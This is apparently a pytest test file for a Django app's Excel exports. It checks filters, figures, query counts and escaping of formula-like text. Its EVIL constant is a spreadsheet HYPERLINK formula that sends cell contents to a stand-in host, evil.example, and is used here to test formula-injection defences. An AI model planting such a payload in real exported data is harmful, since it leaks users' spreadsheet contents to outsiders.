"""The .xlsx exports: the filters in the header, the tables' figures, outside text never a
formula; and the tab's query counts, which do not grow with the rows."""

import datetime as dt
import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from analytics.xlsx import Sheet, workbook
from tasks.services import service_requests_mark_arrived
from tests.analytics.conftest import PERIOD, Maker, at
from tests.factories import ClientFactory, WorksheetFactory, make_employee

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'


def _book(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    return load_workbook(io.BytesIO(response.content))


def _rows(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("text", [EVIL, "+7 912 345-67-89", "-5", "@SUM(A1)", "\t=1+1"])
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    content = workbook(title="T", filters=[], sheets=[Sheet("Лист", ["Клиент"], [[text], [42]])])
    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet.cell(row=sheet.max_row - 1, column=1)
    assert cell.value == text and cell.data_type == "s"
    assert sheet.cell(row=sheet.max_row, column=1).value == 42
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
    assert "<f>" not in xml and 'quotePrefix="1"' in styles


def test_a_client_named_hyperlink_is_exported_as_text_from_my_tasks(
    service_a, manager_a, client_manager_a
):
    worksheet = WorksheetFactory(department=service_a, client=ClientFactory(name=EVIL))
    Maker(service_a).task(at("2025-03-03"), worksheet=worksheet)
    book = _book(client_manager_a.get("/analytics/export/my-tasks/"))
    assert book.sheetnames == ["Я исполнитель", "Доступные мне"]
    available = book["Доступные мне"]
    cells = [c for row in available.iter_rows() for c in row if c.value == EVIL]
    assert len(cells) == 1 and cells[0].data_type == "s"


def test_my_tasks_export_keeps_the_page_filter(service_a, manager_a, client_manager_a):
    make = Maker(service_a)
    make.task(at("2025-03-03"))
    make.task(at("2025-04-03"))
    book = _book(
        client_manager_a.get("/analytics/export/my-tasks/?date_from=2025-03-01&date_to=2025-03-31")
    )
    rows = _rows(book["Доступные мне"])
    assert ["Запланированы с:", "01.03.2025"] in [r[:2] for r in rows]
    header = rows.index(next(r for r in rows if r and r[0] == "Задача"))
    assert len(rows) - header - 1 == 1


def test_the_my_tasks_page_links_its_export(client_manager_a):
    body = client_manager_a.get("/tasks/?period=today").content.decode()
    assert 'href="/analytics/export/my-tasks/?period=today"' in body


def test_the_funnel_export_has_the_filters_and_the_figures(data_set, client_head_a):
    service_requests_mark_arrived(since=at("2025-01-01").date())
    book = _book(client_head_a.get("/analytics/export/", {**PERIOD, "block": "funnel"}))
    rows = _rows(book.active)
    assert rows[0][0] == "Аналитика: Воронка"
    assert ["Период:", "01.03.2025 – 10.03.2025"] in [r[:2] for r in rows]
    assert ["Сравнение с:", "19.02.2025 – 28.02.2025"] in [r[:2] for r in rows]
    figures = {r[0]: r[1:3] for r in rows if r and r[0]}
    assert figures["Приехали"] == [2, 0]
    assert figures["Выручка приехавших, ₽"] == [15000, 0]


@pytest.mark.parametrize("block", ["outcomes", "managers", "campaigns", "batches", "backlog"])
def test_every_table_exports(block, data_set, client_head_a):
    book = _book(client_head_a.get("/analytics/export/", {**PERIOD, "block": block}))
    rows = _rows(book.active)
    assert ["ЦФО:", "все мои"] in [r[:2] for r in rows]


def test_the_managers_export_of_a_manager_is_their_row_only(data_set, client_manager_a):
    book = _book(client_manager_a.get("/analytics/export/", {**PERIOD, "block": "managers"}))
    rows = _rows(book.active)
    header = next(i for i, r in enumerate(rows) if r and r[0] == "Менеджер")
    assert len(rows) - header - 1 == 1


def test_an_unknown_table_is_404(client_head_a):
    assert client_head_a.get("/analytics/export/?block=nothing").status_code == 404


def _queries(http, url, params) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = http.get(url, params)
        assert response.status_code == 200
    return len(captured)


def _tasks(service_a, executors, count):
    make = Maker(service_a)
    for index in range(count):
        make.task(
            at("2025-03-02", 8 + index % 10),
            executor=executors[index % len(executors)],
            status="done",
            outcome="no_answer",
            after=dt.timedelta(hours=3),
        )


@pytest.mark.parametrize(
    ("url", "params"),
    [
        ("/analytics/", PERIOD),
        ("/analytics/", {"period": "year"}),
        ("/analytics/export/", {**PERIOD, "block": "managers"}),
        ("/analytics/export/", {**PERIOD, "block": "batches"}),
        ("/analytics/export/my-tasks/", {}),
    ],
)
def test_query_counts_do_not_grow_with_rows(
    url, params, service_a, head_a, manager_a, client_head_a
):
    _tasks(service_a, [head_a], 1)
    one = _queries(client_head_a, url, params)
    managers = [
        make_employee(
            f"m{i}", role="Менеджер", branches=[service_a.branch], departments=[service_a]
        )
        for i in range(5)
    ]
    _tasks(service_a, [head_a, manager_a, *managers], 49)
    fifty = _queries(client_head_a, url, params)
    assert one == fifty
    assert fifty <= 24


def test_the_stage_lists_export_a_sheet_per_section_with_the_search(
    service_a, manager_a, client_manager_a
):
    evil = WorksheetFactory(department=service_a, client=ClientFactory(name=EVIL))
    Maker(service_a).task(at("2025-03-03"), worksheet=evil)
    other = WorksheetFactory(department=service_a, client=ClientFactory(name="Петров Пётр"))
    Maker(service_a).task(at("2025-03-04"), worksheet=other)

    book = _book(client_manager_a.get("/analytics/export/stages/"))
    assert book.sheetnames == ["Новые", "В работе", "Обработаны", "На контроле"]
    new = _rows(book["Новые"])
    header = new.index(next(r for r in new if r and r[0] == "Рабочий лист"))
    assert sorted(r[0] for r in new[header + 1 :]) == sorted([evil.number, other.number])
    cells = [c for row in book["Новые"].iter_rows() for c in row if c.value == EVIL]
    assert len(cells) == 1 and cells[0].data_type == "s"

    searched = _book(client_manager_a.get("/analytics/export/stages/?q=Петров"))
    rows = _rows(searched["Новые"])
    assert [
        r[0] for r in rows[rows.index(next(r for r in rows if r and r[0] == "Рабочий лист")) + 1 :]
    ] == [other.number]


def test_the_stages_page_links_its_export(client_manager_a):
    body = client_manager_a.get("/stages/?q=abc").content.decode()
    assert 'href="/analytics/export/stages/?q=abc"' in body


def test_a_lead_batch_exports_every_lead_with_its_reasons(service_a, head_a, client_head_a):
    from selections.models import ImporterVariant, Lead, LeadBatch

    batch = LeadBatch.objects.create(
        kind=LeadBatch.Kind.IMPORTER_FILE,
        branch=service_a.branch,
        department=service_a,
        importer_variant=ImporterVariant.objects.first(),
        file_name="klienty.xlsx",
    )
    Lead.objects.create(
        batch=batch,
        row_number=5,
        data={"name": EVIL, "phones": ["+79161234567"], "plate": "А123ВС77"},
    )
    Lead.objects.create(
        batch=batch,
        row_number=6,
        data={"name": "Без телефона"},
        errors=["Нет телефона"],
        is_usable=False,
    )

    book = _book(client_head_a.get(f"/analytics/export/batches/{batch.pk}/"))
    rows = _rows(book["Лиды"])
    header = rows.index(next(r for r in rows if r and r[0] == "Строка"))
    assert [r[:3] for r in rows[header + 1 :]] == [
        [5, EVIL, "+79161234567"],
        [6, "Без телефона", None],
    ]
    assert rows[header + 2][9] == "Нет телефона"
    assert (
        f"/analytics/export/batches/{batch.pk}/"
        in client_head_a.get(f"/selections/batches/{batch.pk}/").content.decode()
    )
